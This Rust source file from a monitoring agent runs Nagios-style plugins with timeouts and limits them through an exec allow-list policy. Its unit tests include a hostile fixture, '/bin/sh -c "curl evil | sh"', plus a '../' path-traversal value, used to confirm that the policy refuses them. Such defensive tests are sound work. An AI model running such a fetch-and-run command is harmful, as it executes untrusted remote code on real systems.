//! Exec probe: runs a Nagios / Monitoring Plugins compatible plugin. Exit 0 OK, 1 WARNING
//! (degraded), 2 CRITICAL, 3 UNKNOWN (both failures). The first output line is the message;
//! performance data becomes values. On timeout the plugin's whole process group is killed.

use nix::sys::signal::{killpg, Signal};
use nix::unistd::Pid;
use std::os::unix::process::CommandExt;
use std::process::Stdio;
use std::time::{Duration, Instant};
use tokio::io::AsyncReadExt;
use vakt_config::wire::CheckSpec;

use super::{BoxFuture, BuildError, Probe, ProbeResult};

/// Output beyond this is not read (a plugin's output is a few lines).
const MAX_OUTPUT: u64 = 64 * 1024;

/// The value an UNKNOWN result carries (exit 3 or above, a timeout, a signal): the collector
/// tells it from a CRITICAL by it (see the check's `unknown_counts_as`).
pub const UNKNOWN_VALUE: &str = vakt_config::wire::PLUGIN_UNKNOWN_VALUE;

pub struct ExecProbe {
    program: String,
    args: Vec<String>,
    timeout: Duration,
}

impl ExecProbe {
    pub fn new(spec: &CheckSpec) -> Result<Self, BuildError> {
        if !spec.target.starts_with('/') {
            return Err(BuildError(format!("check {:?}: plugin {:?} is not an absolute path", spec.id, spec.target)));
        }
        Ok(Self {
            program: spec.target.clone(),
            args: spec.options.args.clone(),
            timeout: Duration::from_millis(spec.timeout_ms),
        })
    }

    async fn probe(&self) -> ProbeResult {
        let start = Instant::now();
        let mut cmd = tokio::process::Command::new(&self.program);
        cmd.args(&self.args)
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .env("LC_ALL", "C")
            .kill_on_drop(true);
        // Its own process group, so a timeout kills the plugin and everything it started.
        cmd.as_std_mut().process_group(0);
        let mut child = match cmd.spawn() {
            Ok(c) => c,
            Err(e) => return ProbeResult::failed(Some(start.elapsed()), format!("cannot run {}: {e}", self.program)),
        };
        let pgid = child.id().and_then(|id| i32::try_from(id).ok()).map(Pid::from_raw);
        let mut stdout = child.stdout.take();
        let mut stderr = child.stderr.take();
        let run = async {
            // Both pipes at once: a plugin that fills stderr first must not block.
            let read_out = async {
                let mut out = String::new();
                if let Some(s) = stdout.as_mut() {
                    let _ = s.take(MAX_OUTPUT).read_to_string(&mut out).await;
                }
                out
            };
            let read_err = async {
                let mut err = String::new();
                if let Some(s) = stderr.as_mut() {
                    let _ = s.take(MAX_OUTPUT).read_to_string(&mut err).await;
                }
                err
            };
            let (out, err) = tokio::join!(read_out, read_err);
            (child.wait().await, out, err)
        };
        let (status, out, err) = match tokio::time::timeout(self.timeout, run).await {
            Ok(r) => r,
            Err(_) => {
                if let Some(pgid) = pgid {
                    let _ = killpg(pgid, Signal::SIGKILL);
                }
                // As Nagios has it: a plugin that does not answer says nothing of the service.
                return ProbeResult::failed(
                    Some(start.elapsed()),
                    format!(
                        "UNKNOWN: {} timed out after {} and was killed",
                        self.program,
                        vakt_config::duration::format_duration(self.timeout)
                    ),
                )
                .with_value(UNKNOWN_VALUE, 1.0);
            }
        };
        let latency = start.elapsed();
        let code = match status {
            Ok(s) => s.code(),
            Err(e) => return ProbeResult::failed(Some(latency), format!("waiting for {}: {e}", self.program)),
        };
        let message =
            out.lines().next().map(|l| l.split('|').next().unwrap_or(l).trim().to_string()).filter(|m| !m.is_empty());
        let message = message.or_else(|| err.lines().next().map(str::to_string)).unwrap_or_else(|| "no output".into());
        // A plugin's long output (the lines after the first, their perfdata cut off) goes with
        // the reason on the lines after it, within what the collector takes.
        let long = long_output(&out);
        let message = if long.is_empty() || code == Some(0) { message } else { format!("{message}\n{long}") };
        let mut result = match code {
            Some(0) => ProbeResult::ok(latency),
            Some(1) => ProbeResult::ok(latency).degrade(message.clone()),
            Some(2) => ProbeResult::failed(Some(latency), message.clone()),
            // Plugins start their line with their state ("UNKNOWN: ...", "UNKNOWN - ..."): say it once.
            Some(3) if message.starts_with("UNKNOWN") => {
                ProbeResult::failed(Some(latency), message.clone()).with_value(UNKNOWN_VALUE, 1.0)
            }
            Some(3) => ProbeResult::failed(Some(latency), format!("UNKNOWN: {message}")).with_value(UNKNOWN_VALUE, 1.0),
            Some(other) => ProbeResult::failed(Some(latency), format!("UNKNOWN (exit code {other}): {message}"))
                .with_value(UNKNOWN_VALUE, 1.0),
            None => ProbeResult::failed(Some(latency), format!("UNKNOWN: {} was killed by a signal", self.program))
                .with_value(UNKNOWN_VALUE, 1.0),
        };
        if let Some(c) = code {
            result = result.with_value("exit_code", f64::from(c));
        }
        for p in super::perfdata::parse(&out) {
            let base = if p.unit.is_empty() { p.label.clone() } else { format!("{}_{}", p.label, p.unit) };
            // Two labels may make the same name ("/" and "value"): both are kept, the later
            // one numbered.
            let mut name = base.clone();
            let mut n = 1;
            while result.values.contains_key(&name) {
                n += 1;
                name = format!("{base}_{n}");
            }
            result = result.with_value(&name, p.value);
            result.perfdata.push(vakt_config::wire::PerfValue {
                label: p.raw_label,
                value: p.value,
                unit: p.unit.to_string(),
                warn: p.warn,
                crit: p.crit,
                min: p.min,
                max: p.max,
            });
        }
        result
    }
}

/// The lines after a plugin's first, perfdata cut off, blank ones dropped, at most
/// [`MAX_LONG_OUTPUT`] bytes (cut at a character boundary, said with "…").
fn long_output(out: &str) -> String {
    let mut text = String::new();
    for line in out.lines().skip(1) {
        let line = line.split('|').next().unwrap_or(line).trim_end();
        if line.trim().is_empty() {
            continue;
        }
        if !text.is_empty() {
            text.push('\n');
        }
        text.push_str(line);
    }
    if text.len() > MAX_LONG_OUTPUT {
        let mut cut = MAX_LONG_OUTPUT;
        while !text.is_char_boundary(cut) {
            cut -= 1;
        }
        text.truncate(cut);
        text.push('…');
    }
    text
}

/// Bytes of long output kept: the collector takes reasons up to 4 KiB.
const MAX_LONG_OUTPUT: usize = 3 * 1024;

impl Probe for ExecProbe {
    fn run(&self) -> BoxFuture<'_, ProbeResult> {
        Box::pin(self.probe())
    }
}

/// Which programs this agent runs for exec checks. The collector says *what* to probe, never
/// *what to execute*: a plugin runs only when its path matches the agent's own `exec_allow`,
/// or it is exactly (program and arguments) one of the exec checks in the agent's own
/// `agent.toml`. Everything else is refused, and the refusal is the check's result.
#[derive(Clone, Debug, Default)]
pub struct ExecPolicy {
    /// Any exec check runs (`vakt-agent probe`: a person typed the command).
    trust_all: bool,
    /// Path patterns; `*` stands for any characters within one path segment.
    allow: Vec<String>,
    /// (program, args) of the agent's own exec checks.
    local: Vec<(String, Vec<String>)>,
}

impl ExecPolicy {
    pub fn new(allow: Vec<String>, local: Vec<(String, Vec<String>)>) -> Self {
        ExecPolicy { trust_all: false, allow, local }
    }

    pub fn trust_all() -> Self {
        ExecPolicy { trust_all: true, ..Self::default() }
    }

    /// `None` when `spec` may run; otherwise why not.
    pub fn refusal(&self, spec: &CheckSpec) -> Option<String> {
        let program = spec.target.as_str();
        if self.trust_all || self.local.iter().any(|(p, a)| p == program && *a == spec.options.args) {
            return None;
        }
        let plain = program.starts_with('/') && !program.split('/').any(|seg| seg == ".." || seg == ".");
        if plain && self.allow.iter().any(|pattern| glob_match(pattern, program)) {
            return None;
        }
        Some(format!(
            "refused to run {program:?}: not in this agent's exec_allow (agent.toml); the collector cannot make an agent run a program its own configuration does not allow"
        ))
    }
}

/// `*` matches any run of characters except '/'; everything else matches itself.
pub fn glob_match(pattern: &str, path: &str) -> bool {
    let (p, s) = (pattern.as_bytes(), path.as_bytes());
    let (mut pi, mut si) = (0, 0);
    let mut star: Option<(usize, usize)> = None;
    while si < s.len() {
        if pi < p.len() && p[pi] == b'*' {
            star = Some((pi, si));
            pi += 1;
        } else if pi < p.len() && p[pi] == s[si] {
            pi += 1;
            si += 1;
        } else if let Some((sp, ss)) = star.filter(|&(_, ss)| s[ss] != b'/') {
            // Let the last star take one more character (never a '/').
            star = Some((sp, ss + 1));
            pi = sp + 1;
            si = ss + 1;
        } else {
            return false;
        }
    }
    p[pi..].iter().all(|&c| c == b'*')
}

/// A check this agent will not run: every interval, its result is the refusal.
pub struct RefusedProbe {
    pub reason: String,
}

impl Probe for RefusedProbe {
    fn run(&self) -> BoxFuture<'_, ProbeResult> {
        Box::pin(async move { ProbeResult::failed(None, self.reason.clone()) })
    }
}

#[cfg(test)]
mod policy_tests {
    use super::*;
    use vakt_config::CheckKind;

    fn spec(program: &str, args: &[&str]) -> CheckSpec {
        let mut s = CheckSpec::new("c", CheckKind::Exec, program, 1000);
        s.options.args = args.iter().map(|a| a.to_string()).collect();
        s
    }

    #[test]
    fn globs_stay_within_one_path_segment() {
        assert!(glob_match("/usr/lib/nagios/plugins/*", "/usr/lib/nagios/plugins/check_tcp"));
        assert!(glob_match("/usr/lib/nagios/plugins/check_*", "/usr/lib/nagios/plugins/check_disk"));
        assert!(glob_match("/opt/x/check", "/opt/x/check"));
        assert!(!glob_match("/usr/lib/nagios/plugins/*", "/usr/lib/nagios/plugins/sub/check_tcp"));
        assert!(!glob_match("/usr/lib/nagios/plugins/*", "/bin/sh"));
        assert!(!glob_match("/opt/x/check", "/opt/x/check2"));
    }

    #[test]
    fn nothing_runs_by_default_and_the_allow_list_and_own_checks_open_the_door() {
        let none = ExecPolicy::default();
        assert!(none.refusal(&spec("/usr/lib/nagios/plugins/check_tcp", &[])).is_some(), "empty by default");
        let p = ExecPolicy::new(
            vec!["/usr/lib/nagios/plugins/*".into()],
            vec![("/usr/local/bin/backup-check".into(), vec!["--quick".into()])],
        );
        assert_eq!(p.refusal(&spec("/usr/lib/nagios/plugins/check_tcp", &["-H", "x"])), None);
        let sh = p.refusal(&spec("/bin/sh", &["-c", "curl evil | sh"])).unwrap();
        assert!(sh.contains("refused to run \"/bin/sh\""), "{sh}");
        assert!(p.refusal(&spec("/usr/lib/nagios/plugins/../../../../bin/sh", &[])).is_some(), "no way out by ..");
        assert_eq!(p.refusal(&spec("/usr/local/bin/backup-check", &["--quick"])), None, "the agent's own check");
        assert!(
            p.refusal(&spec("/usr/local/bin/backup-check", &["--delete-all"])).is_some(),
            "the same program with other arguments is not the agent's own check"
        );
        assert_eq!(ExecPolicy::trust_all().refusal(&spec("/bin/true", &[])), None);
    }
}
